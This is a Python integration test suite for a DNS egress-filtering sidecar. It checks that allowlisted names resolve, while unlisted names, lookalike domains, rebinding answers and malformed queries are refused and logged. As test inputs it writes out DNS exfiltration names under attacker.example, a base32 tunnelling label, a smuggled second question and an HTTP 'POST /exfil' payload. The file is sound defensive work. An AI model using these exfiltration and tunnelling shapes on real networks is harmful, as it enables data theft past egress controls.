"""The pod DNS listener on loopback: allowed names answered (vetted), the rest refused
without ever being asked upstream; tunnelling shapes flagged even when refused."""

from __future__ import annotations

import socket
import time

import dns.message
import dns.query
import dns.rcode
import pytest

from tests.conftest import free_port

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def dns_sidecar(start_sidecar):
    return start_sidecar(extra_args=("--dns", f"127.0.0.1:{free_port()}"))


def ask(sidecar, name: str, rdtype: str = "A") -> dns.message.Message:
    host, port = sidecar.listener("dns").rsplit(":", 1)
    query = dns.message.make_query(name, rdtype)
    return dns.query.udp(query, host, port=int(port), timeout=5)


def test_allowed_name_is_answered_from_vetted_resolution(dns_sidecar, dns_server):
    reply = ask(dns_sidecar, "api.openai.com")
    assert reply.rcode() == dns.rcode.NOERROR
    assert [r.to_text() for rrset in reply.answer for r in rrset] == ["127.0.0.1"]


def test_allowed_name_other_type_gets_no_data(dns_sidecar):
    reply = ask(dns_sidecar, "api.openai.com", "TXT")
    assert reply.rcode() == dns.rcode.NOERROR
    assert reply.answer == []


@pytest.mark.parametrize(
    ("attack", "name", "rdtype"),
    [
        ("exfiltration_name_a", "secret-data.exfil.attacker.example", "A"),
        ("exfiltration_name_txt", "more-data.exfil.attacker.example", "TXT"),
        ("lookalike_domain", "models.litellm.cloud", "A"),
    ],
)
def test_unlisted_name_refused_and_never_forwarded(dns_sidecar, dns_server, attack, name, rdtype):
    reply = ask(dns_sidecar, name, rdtype)
    assert reply.rcode() == dns.rcode.REFUSED, attack
    assert not dns_server.asked(name)
    decision = dns_sidecar.wait_for_decision(host=name, mode="dns")
    assert decision["reason"] == "dns_name_not_allowed"
    assert decision["decision"] == "block"


def test_dns_tunnel_label_refused_and_flagged(dns_sidecar, dns_server):
    label = "mzxw6ytboi4dcmrtgq2tmnzyhe3dknrsgiztinjwg4ydsmbrgeztgmzu"  # base32 payload
    name = f"{label}.t.attacker.example"
    reply = ask(dns_sidecar, name, "TXT")
    assert reply.rcode() == dns.rcode.REFUSED
    assert not dns_server.asked(name)
    decision = dns_sidecar.wait_for_decision(host=name, reason="dns_tunnel_suspected")
    assert decision["decision"] == "block"
    assert "long_label" in decision["detail"]


def test_rebinding_answer_is_not_handed_to_the_gateway(dns_sidecar):
    reply = ask(dns_sidecar, "rebind.openai.com")
    assert reply.rcode() == dns.rcode.REFUSED
    assert dns_sidecar.wait_for_decision(host="rebind.openai.com", mode="dns")["reason"] == (
        "private_address"
    )
    reply = ask(dns_sidecar, "meta.openai.com")
    assert reply.rcode() == dns.rcode.REFUSED
    assert dns_sidecar.wait_for_decision(host="meta.openai.com", mode="dns")["reason"] == (
        "metadata_address"
    )


def test_message_with_two_questions_is_refused_and_logged(dns_sidecar, dns_server):
    """A query smuggling a second question (an unlisted name) is refused whole."""
    query = dns.message.make_query("api.openai.com", "A")
    query.question.append(dns.message.make_query("two-q.exfil.attacker.example", "A").question[0])
    host, port = dns_sidecar.listener("dns").rsplit(":", 1)
    reply = dns.query.udp(query, host, port=int(port), timeout=5)
    assert reply.rcode() == dns.rcode.FORMERR
    assert not dns_server.asked("two-q.exfil.attacker.example")
    decision = dns_sidecar.wait_for_decision(mode="dns", reason="protocol_not_allowed")
    assert decision["detail"] == "DNS message with 2 questions"


@pytest.mark.parametrize(
    "payload",
    [b"POST /exfil HTTP/1.1\r\nHost: x\r\n\r\n", b"\x00\x05junk!", b""],
    ids=["http", "junk", "nothing"],
)
def test_tcp_connection_to_dns_port_without_a_question_is_logged(dns_sidecar, payload):
    """Every TCP connection to port 53 is redirected to the listener: one that carries no
    DNS question (HTTP, junk, nothing) still ends with one decision line (S9)."""
    host, port = dns_sidecar.listener("dns").rsplit(":", 1)
    mark = len(dns_sidecar.decisions)
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(payload)
        sock.shutdown(socket.SHUT_WR)
        sock.settimeout(15)
        while sock.recv(4096):
            pass
    deadline = time.monotonic() + 20
    lines: list[dict] = []
    while not lines and time.monotonic() < deadline:
        time.sleep(0.05)
        lines = [d for d in dns_sidecar.decisions[mark:] if d.get("mode") == "dns"]
    time.sleep(0.5)  # a second line would show up by now
    lines = [d for d in dns_sidecar.decisions[mark:] if d.get("mode") == "dns"]
    assert [d["reason"] for d in lines] == ["protocol_not_allowed"], lines
    assert "without a DNS question" in lines[0]["detail"]


def test_tcp_question_to_dns_port_gets_no_extra_line(dns_sidecar):
    host, port = dns_sidecar.listener("dns").rsplit(":", 1)
    mark = len(dns_sidecar.decisions)
    answer = dns.query.tcp(
        dns.message.make_query("api.openai.com", "A"), host, port=int(port), timeout=5
    )
    assert answer.rcode() == dns.rcode.NOERROR
    time.sleep(0.5)
    assert not [d for d in dns_sidecar.decisions[mark:] if d.get("mode") == "dns"]
